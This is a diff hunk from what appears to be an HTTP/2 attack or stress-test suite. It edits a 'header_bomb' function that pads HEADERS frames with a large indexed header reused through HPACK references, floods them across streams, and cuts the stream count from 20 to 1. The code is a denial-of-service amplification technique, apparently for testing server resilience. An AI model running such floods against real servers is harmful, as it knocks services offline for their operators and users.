@@ -176,7 +176,7 @@ def header_bomb(self):
     first = stream_request(0) + clients.literal(b"x-bomb", b"v" * 3900, indexed=True)
     block = first + b"\xbe" * (16384 - len(first))
     later = stream_request(0) + b"\xbe" * 16000
-    self.flood(*per_stream(lambda stream: clients.headers(stream, block if stream == 1 else later), 20))
+    self.flood(*per_stream(lambda stream: clients.headers(stream, block if stream == 1 else later), 1))
 
 
 @attack
